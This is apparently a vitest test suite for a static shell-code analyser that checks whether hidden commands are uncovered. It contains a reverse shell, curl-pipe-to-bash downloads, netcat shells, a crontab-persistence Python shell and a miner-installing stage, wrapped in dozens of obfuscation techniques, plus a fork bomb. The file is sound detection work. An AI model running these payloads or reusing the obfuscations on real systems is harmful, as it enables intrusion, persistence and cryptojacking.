import { createCipheriv, createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Reading, ReadingBudget } from '../../language.ts';
import { known, render, textOf } from '../../value.ts';
import { shell } from './shell.ts';

const reverse = 'bash -i >& /dev/tcp/192.0.2.44/8443 0>&1';
const download = 'curl -s http://203.0.113.9/x.jpg | bash -s';

interface World {
  readonly args?: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
  readonly files?: Readonly<Record<string, string>>;
  readonly budget?: Partial<ReadingBudget>;
}

function read(text: string, world: World = {}): Reading {
  return shell.read({
    text,
    args: (world.args ?? ['sh']).map(known),
    env: new Map(Object.entries(world.env ?? {}).map(([name, value]) => [name, known(value)])),
    cwd: '/',
    readFile: (path) => world.files?.[path],
    budget: { steps: 2_000_000, decodedBytes: 8 * 1024 * 1024, commands: 20_000, ...world.budget },
  });
}

/** Every command of the code and of the shell code it leads to, as `name args >redirects |position`. */
function everything(text: string, world: World = {}, depth = 0): readonly string[] {
  const reading = read(text, world);
  return [
    ...reading.commands.map(
      (command) =>
        `${command.argv.map(render).join(' ')}${command.redirects.map((each) => ` ${each.fd}${each.op}${render(each.target)}`).join('')}${command.pipe ? ` |${command.pipe.position}` : ''}`,
    ),
    ...(depth > 8
      ? []
      : reading.nested
          .filter((each) => each.language === 'shell')
          .flatMap((each) =>
            everything(each.text, { ...world, args: each.args.map((arg) => textOf(arg) ?? '?') }, depth + 1),
          )),
  ];
}

function encrypted(text: string, password: string): string {
  const salt = Buffer.from('01234567');
  let material = Buffer.alloc(0);
  let last = Buffer.alloc(0);
  while (material.length < 48) {
    last = createHash('sha256')
      .update(Buffer.concat([last, Buffer.from(password), salt]))
      .digest();
    material = Buffer.concat([material, last]);
  }
  const cipher = createCipheriv('aes-256-cbc', material.subarray(0, 32), material.subarray(32, 48));
  return Buffer.concat([Buffer.from('Salted__'), salt, cipher.update(text), cipher.final()]).toString('base64');
}

const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString('base64');
const quote = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;
const reversed = (text: string): string => [...text].reverse().join('');
const rotated = (text: string): string =>
  text.replace(/[a-z]/g, (char) => String.fromCharCode(((char.charCodeAt(0) - 97 + 13) % 26) + 97));
const octal = (text: string): string =>
  [...text].map((char) => `\\${char.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');

/** Ways to hide code, each around any code. */
const wrappings: readonly (readonly [string, (code: string) => string])[] = [
  ['plain', (code) => code],
  ['eval', (code) => `eval ${quote(code)}`],
  ['eval "$(echo … | rev)"', (code) => `eval "$(echo ${quote(reversed(code))} | rev)"`],
  ['backquotes', (code) => `eval \`echo ${base64(code)} | base64 -d\``],
  ['base64 pipe', (code) => `echo ${base64(code)} | base64 -d | sh`],
  ['base64 -d<<<', (code) => `bash -c "$(base64 -d<<<${base64(code)})"`],
  ['base64 by variable', (code) => `a=${base64(code)}\nb=$(echo $a|base64 --decode)\neval "$b"`],
  ['twice base64', (code) => `echo ${base64(base64(code))} | base64 -d | base64 -d | bash`],
  ['xxd -r -p', (code) => `echo ${Buffer.from(code).toString('hex')} | xxd -r -p | sh`],
  ['tr', (code) => `echo ${quote(rotated(code))} | tr 'a-z' 'n-za-m' | sh`],
  ['openssl', (code) => `echo ${encrypted(code, 'word')} | openssl enc -d -aes-256-cbc -k word -base64 -A | sh`],
  ['gunzip', (code) => `echo ${base64(gzipSync(code))} | base64 -d | gunzip -c | sh`],
  ['printf octal', (code) => `printf '${octal(code)}' | sh`],
  ['echo -e', (code) => `echo -e '${octal(code).replaceAll('\\', '\\0')}' | bash`],
  ["$'…'", (code) => `eval $'${octal(code)}'`],
  ['here-document', (code) => `bash <<'END'\n${code}\nEND`],
  ['here-document, unquoted', (code) => `sh <<-END\n\t${code}\n\tEND`],
  ['here-string', (code) => `bash <<< ${quote(code)}`],
  ['cat here-document into a pipe', (code) => `cat <<'END' | sh\n${code}\nEND`],
  ['source <(…)', (code) => `source <(echo ${quote(code)})`],
  ['. /dev/stdin', (code) => `echo ${quote(code)} | . /dev/stdin`],
  ['function', (code) => `f() { ${code}\n}\nf`],
  ['function with arguments', (code) => `run() { eval "$1"; }; run ${quote(code)}`],
  ['alias', (code) => `alias go='eval ${code.replaceAll("'", '')}'\ngo`],
  ['trap', (code) => `trap ${quote(code)} EXIT`],
  ['find -exec', (code) => `find / -maxdepth 0 -exec sh -c ${quote(code)} \\;`],
  ['xargs sh -c', (code) => `echo ${quote(code)} | xargs -I{} sh -c "{}"`],
  ['env -i', (code) => `env -i HOME=/ sh -c ${quote(code)}`],
  ['busybox sh', (code) => `busybox sh -c ${quote(code)}`],
  ['su -c', (code) => `su root -c ${quote(code)}`],
  ['setsid nohup &', (code) => `setsid nohup sh -c ${quote(code)} >/dev/null 2>&1 &`],
  ['sudo timeout nice', (code) => `sudo -u root timeout 5 nice -n 5 sh -c ${quote(code)}`],
  ['if', (code) => `if [ -x /bin/x ]; then :; else\n${code}\nfi`],
  ['case', (code) => `case "$1" in a) :;; *) ${code} ;; esac`],
  ['while', (code) => `while true; do ${code}; sleep 60; done`],
  ['for', (code) => `for i in 1 2 3; do ${code}; done`],
  ['&&', (code) => `test -e /x && ${code}`],
  ['subshell in the background', (code) => `( ${code} ) &`],
  ['array', (code) => `a=(x ${quote(code)}); eval "\${a[1]}"`],
  ['array joined', (code) => `a=(${code.split(' ').map(quote).join(' ')}); eval "\${a[*]}"`],
  ['substring', (code) => `x=${quote(`__${code}__`)}; eval "\${x:2:${code.length}}"`],
  ['replacement', (code) => `x=${quote(code.replaceAll('a', '@@'))}; eval "\${x//@@/a}"`],
  ['split and joined', (code) => `a=${quote(code.slice(0, 5))};b=${quote(code.slice(5))};eval "$a$b"`],
  ['indirect', (code) => `x=${quote(code)}; y=x; eval "\${!y}"`],
  ['default', (code) => `eval "\${nothing:-${code.replace(/[}"]/g, '')}}"`],
  ['set --', (code) => `set -- ${quote(code)}; eval "$1"`],
  ['read', (code) => `while read -r line; do eval "$line"; done <<'END'\n${code}\nEND`],
  ['branch assigns', (code) => `if a; then x=true; else x=${quote(code)}; fi; sh -c "$x"`],
  ['broken before', (code) => `) ; fi ; done ; }\n${code}`],
  ['broken after', (code) => `${code}\nif then ((`],
  [
    'loop builds it',
    (code) =>
      `s=; for c in ${[...code].map((char) => char.charCodeAt(0)).join(' ')}; do s="$s$(printf "\\\\$(printf %03o $c)")"; done; eval "$s"`,
  ],
];

describe.each(wrappings)('hidden by %s', (_name, wrap) => {
  test('a reverse shell is seen', () => {
    expect(everything(wrap(reverse)).join('\n')).toMatch(/bash -i .*1>&\/dev\/tcp\/192\.0\.2\.44\/8443 0>&1/);
  });
  test('a download that is run is seen', () => {
    const found = everything(wrap(download)).join('\n');
    expect(found).toMatch(/curl -s http:\/\/203\.0\.113\.9\/x\.jpg.* \|0/);
    expect(found).toMatch(/bash -s.* \|1/);
  });
});

describe('spelled otherwise', () => {
  test.each([
    "b''ash -i",
    'ba\\sh -i',
    'b"as"h -i',
    "$'\\x62ash' -i",
    "$'\\142ash' -i",
    '$"bash" -i',
    'bash${IFS}-i',
    'a=ba;b=sh;$a$b -i',
    'x=zzbashzz; ${x:2:4} -i',
    'x=xbxaxsxhx; ${x//x/} -i',
    'x=/b/a/s/h/; ${x////} -i',
    'x=bash.sh; ${x%.sh} -i',
    'x=./bin/bash; ${x##*/} -i',
    'x=BASH; ${x,,} -i',
    '$(printf "\\142")ash -i',
    '$(echo hsab|rev) -i',
    'cu=1; {bash,-i}',
    'ba$@sh -i',
    'ba${nothing}sh -i',
    'a=(bash -i); "${a[@]}"',
    'alias x=bash; x -i',
    '\\\nbash \\\n-i',
    'command bash -i',
    '$(which bash) -i',
    '$(tr B b <<< Bash) -i',
    'x=$(( 1 + 1 )); y=bash; [ $x ] && $y -i',
    'cp /bin/bash /tmp/.x; /tmp/.x -i',
    'f() { "$@"; }; f bash -i',
    'IFS=,; x=bash,-i; $x',
    'declare -a q=(bash -i); ${q[0]} ${q[1]}',
    'printf -v p %s ba; ${p}sh -i',
    'read p <<< bash; $p -i',
    'coproc bash -i',
    'time bash -i',
    '! bash -i',
    'echo "`bash -i`"',
    'echo "${x:-$(bash -i)}"',
    'x[$(bash -i)]=1; : $((x[$(bash -i)]))',
    '${*,,}b${@}as${@%%q}h -i',
    'f() { bash -i; }; export -f f; xargs -I{} sh -c "f {}"',
    'cmd_go() { bash -i; }; "cmd_$1"',
    "$(tr '\\!-~' 'P-~\\!-O' <<< '32D9') -i",
    'eval "$(rev<<<\'i- hsab\')"',
    '$(printf "\\\\$(printf %o $((16#62)))")ash -i',
    // zsh
    'x=BASH; ${(L)x} -i',
    'a=(b a s h); ${(j::)a} -i',
    'x=bash,-i; ${(s:,:)x}',
    'x=bash; y=x; ${(P)y} -i',
    'for x (bash) { $x -i; }',
    'foreach x (bash); $x -i; end',
    'eval "$(print -r -- bash -i)"',
    '() { bash -i; }',
    'noglob bash -i',
  ])('%s', (code) => {
    expect(everything(code).map((each) => each.replace('/bin/bash', 'bash').replace(/ [0-9].*$/, ''))).toContain(
      'bash -i',
    );
  });
  test.each([
    ['c=curl; $c -s http://203.0.113.9/x', 'curl -s http://203.0.113.9/x'],
    ['cp $(which curl) /usr/bin/z; z -s http://203.0.113.9/x', 'curl -s http://203.0.113.9/x'],
    ['curl http:\\\\203.0.113.9\\x', 'curl http:\\203.0.113.9x'],
    ["curl 'http:\\\\203.0.113.9\\x'", 'curl http:\\\\203.0.113.9\\x'],
    ['curl 3405803785/x', 'curl 3405803785/x'],
    ['busybox nc 192.0.2.44 8443 -e /bin/sh', 'nc 192.0.2.44 8443 -e /bin/sh'],
    ['exec 3<>/dev/tcp/192.0.2.44/8443', 'exec 3<>/dev/tcp/192.0.2.44/8443'],
    ['{ bash -i; } 0<>/dev/tcp/192.0.2.44/8443', 'bash -i 0<>/dev/tcp/192.0.2.44/8443'],
  ])('%s', (code, wanted) => {
    expect(everything(code).map((each) => each.replace('/usr/bin/curl', 'curl'))).toContain(wanted);
  });
});

describe('what the incidents did', () => {
  test('a job written to the crontab of the host', () => {
    const { commands } = read(
      'echo "* * * * * curl -s http://203.0.113.9:8220/logo3.jpg | bash -s" >> /mnt/etc/crontab',
    );
    expect(commands).toHaveLength(1);
    expect(textOf(commands[0]?.stdout ?? [])).toBe('* * * * * curl -s http://203.0.113.9:8220/logo3.jpg | bash -s\n');
    expect(commands[0]?.redirects).toEqual([{ fd: 1, op: '>>', target: ['/mnt/etc/crontab'] }]);
  });
  test('a Python reverse shell in a crontab line', () => {
    const { commands } = read(
      `echo -e "* * * * * root /usr/bin/python -c 'import socket;s.connect((\\"192.0.2.17\\",1496))'\\n" >> /mnt/etc/crontab`,
    );
    expect(textOf(commands[0]?.stdout ?? [])).toBe(
      `* * * * * root /usr/bin/python -c 'import socket;s.connect(("192.0.2.17",1496))'\n\n`,
    );
  });
  test('the stage that kills rivals and starts a miner', () => {
    const found = everything(`ps auxf|grep -v grep|grep "stratum"|awk '{print $2}'|xargs kill -9
crontab -r || true
curl -o /var/tmp/jaav http://203.0.113.9:8220/gcc || wget -O /var/tmp/jaav http://203.0.113.9:8220/minerd
chmod 777 /var/tmp/jaav
cd /var/tmp
cores=$(grep -c ^processor /proc/cpuinfo)
nohup ./jaav -c config.json -t \`echo $cores\` >/dev/null &`);
    expect(found).toEqual(
      expect.arrayContaining([
        'crontab -r',
        'curl -o /var/tmp/jaav http://203.0.113.9:8220/gcc',
        'wget -O /var/tmp/jaav http://203.0.113.9:8220/minerd',
        'chmod 777 /var/tmp/jaav',
      ]),
    );
    const miner = read('cd /var/tmp; nohup ./jaav -c config.json >/dev/null &').commands.at(-1);
    expect(miner).toMatchObject({ name: 'jaav', via: ['nohup'], background: true, cwd: '/var/tmp' });
  });
  test('chroot keeps its own command and says where the inner one runs', () => {
    const { commands } = read('chroot /host sh -c "cron || crond"');
    expect(commands.map((each) => each.name)).toEqual(['chroot', 'sh']);
    expect(commands[1]?.root).toEqual(['/host']);
  });
});

describe('honest entry points', () => {
  const entry = `#!/usr/bin/env bash
set -Eeo pipefail
file_env() {
	local var="$1"
	local fileVar="\${var}_FILE"
	local def="\${2:-}"
	if [ "\${!var:-}" ] && [ "\${!fileVar:-}" ]; then
		echo >&2 "error: both $var and $fileVar are set"
		exit 1
	fi
	local val="$def"
	export "$var"="$val"
	unset "$fileVar"
}
if [ "\${1:0:1}" = '-' ]; then
	set -- server "$@"
fi
if [ "$1" = 'server' ] && [ "$(id -u)" = '0' ]; then
	chown -R app /data
	exec gosu app "$BASH_SOURCE" "$@"
fi
file_env 'APP_PASSWORD'
exec "$@"
`;
  test('exec "$@" without arguments is an unknown command, with them it is that command', () => {
    const reading = read(entry, { args: ['/entry.sh'] });
    expect(reading.truncated).toBe(false);
    expect(reading.gaps).toEqual([]);
    const last = reading.commands
      .filter((each) => each.via.includes('exec'))
      .map((each) => each.argv.map(render).join(' '));
    expect(last.slice(-2).sort()).toEqual(['server ‹$@›', '‹$@›']);
    const started = read('exec "$@"', { args: ['/entry.sh', 'nginx', '-g', 'daemon off;'] }).commands;
    expect(started).toMatchObject([{ name: 'nginx', via: ['exec'], argv: [['nginx'], ['-g'], ['daemon off;']] }]);
  });
  test('set -- puts a program before the arguments', () => {
    const started = read('set -- redis-server "$@"; exec "$@"', { args: ['/entry.sh', '--port', '7'] }).commands.at(-1);
    expect(started).toMatchObject({ name: 'redis-server', argv: [['redis-server'], ['--port'], ['7']] });
  });
  test('both branches are read; an unconditional exit ends the reading', () => {
    expect(everything('if a; then exit 1; fi; b; exit 0; \u0001payload')).toEqual(['a', 'exit 1', 'b', 'exit 0']);
  });
});

describe('bounds', () => {
  test.each<readonly [string, string]>([
    ['doubling by replacement', `x=aaaaaaaaaa; ${'x=${x//a/aaaaaaaaaa};'.repeat(40)} echo $x`],
    ['doubling by joining', `x=aaaaaaaaaa; ${'x=$x$x;'.repeat(200)} echo $x`],
    ['nested substitutions', `${'$(echo '.repeat(2000)}x${')'.repeat(2000)}`],
    ['braces', 'echo {1..999999999} {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}'],
    ['a function that calls itself', 'f() { f $1x; f $1y; f $1z; }; f a'],
    ['a fork bomb', ':(){ :|:& };:'],
    ['eval of itself', 'x=\'eval "$x"; eval "$x"\'; eval "$x"'],
    ['loops in loops', `${'for i in 1 2 3 4 5 6 7 8 9; do '.repeat(12)} echo $i; ${'done; '.repeat(12)}`],
    ['branches that multiply', `${'if a; then x=$x$x$x1; else x=${x}2; fi; '.repeat(60)} echo $x $x$x`],
    [
      'many variables with many values',
      `${[...'abcdefgh'].map((name) => `case $1 in 1) ${name}=1;; 2) ${name}=2;; 3) ${name}=3;; 4) ${name}=4;; esac`).join('\n')}\necho $a$b$c$d$e$f$g$h`,
    ],
    ['open groups', '{ ( '.repeat(20_000)],
    ['open quotes', '"$('.repeat(20_000)],
    ['here-documents', 'cat <<A\n'.repeat(5_000)],
    ['gzip bomb', `echo ${base64(gzipSync(Buffer.alloc(50_000_000, 97)))} | base64 -d | gunzip | sh`],
    ['arithmetic', `echo $(( 9**9**9**9 )) $(( 1 << 9999999999 )) $((${'('.repeat(5000)}1${')'.repeat(5000)}))`],
    ['patterns', `x=${'a'.repeat(5000)}; echo \${x//${'*a'.repeat(200)}b/} \${x%%${'*a'.repeat(200)}b}`],
    ['printf width', 'printf "%999999999d" 1; printf "%s" {1..500}'],
  ])('%s ends soon', (_name, code) => {
    const start = performance.now();
    read(code);
    expect(performance.now() - start).toBeLessThan(8_000);
  });
  test('a megabyte is read in seconds', () => {
    const start = performance.now();
    const reading = read('echo "hello $x" | grep -q a && b="${c%%/*}"\n'.repeat(23_000), {
      budget: { steps: 20_000_000, commands: 200_000 },
    });
    expect(reading.commands.length).toBe(46_000);
    expect(performance.now() - start).toBeLessThan(12_000);
  });
  test('a budget that is used up is said', () => {
    expect(read('a; b; c', { budget: { commands: 2 } })).toMatchObject({ truncated: true });
    expect(read('for i in 1 2 3 4; do a; done', { budget: { steps: 5 } })).toMatchObject({ truncated: true });
  });
});

describe('properties', () => {
  test('no text makes it throw', () => {
    const piece = fc.constantFrom(
      ...[
        '$(',
        '`',
        '"',
        "'",
        '${',
        '}',
        ')',
        '((',
        '))',
        '<<A\n',
        'A\n',
        'if ',
        'then ',
        'fi\n',
        'for x in ',
        'do ',
        'done\n',
        'case ',
        'esac ',
        ' in ',
      ],
      ...[
        ';;',
        '|',
        '&&',
        '&',
        ';',
        '\n',
        'echo ',
        'eval ',
        'x=',
        '$x',
        '$@',
        '[[ ',
        ' ]]',
        '{ ',
        '<(',
        '>&',
        '\\',
        '#',
        '{a,b}',
        '//',
        ':-',
        '!',
        '[',
        ']',
        'f() ',
        '\0',
        '😀',
      ],
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 6 })), { maxLength: 40 }), (pieces) => {
        read(pieces.join(''), { budget: { steps: 20_000, commands: 500 } });
      }),
      { numRuns: 1500 },
    );
  });
  test('words come back from any way of quoting them', () => {
    const styles: readonly ((text: string) => string)[] = [
      quote,
      (text) => `"${text.replace(/[$`"\\]/g, '\\$&')}"`,
      (text) => (text === '' ? "''" : [...text].map((char) => (char === '\n' ? "'\n'" : `\\${char}`)).join('')),
      (text) => `$'${[...Buffer.from(text)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')}'`,
      (text) => `$'${[...Buffer.from(text)].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('')}'`,
      (text) => (text === '' ? '""' : [...text].map((char) => (char === "'" ? '"\'"' : `'${char}'`)).join("''")),
    ];
    const word = fc.string({ unit: 'grapheme', maxLength: 12 }).filter((text) => !text.includes('\0'));
    fc.assert(
      fc.property(fc.array(fc.tuple(word, fc.constantFrom(...styles)), { minLength: 1, maxLength: 5 }), (words) => {
        const { commands } = read(`prog ${words.map(([text, style]) => style(text)).join(' ')}`);
        expect(commands[0]?.argv.slice(1).map(textOf)).toEqual(words.map(([text]) => text));
      }),
      { numRuns: 500 },
    );
  });
});
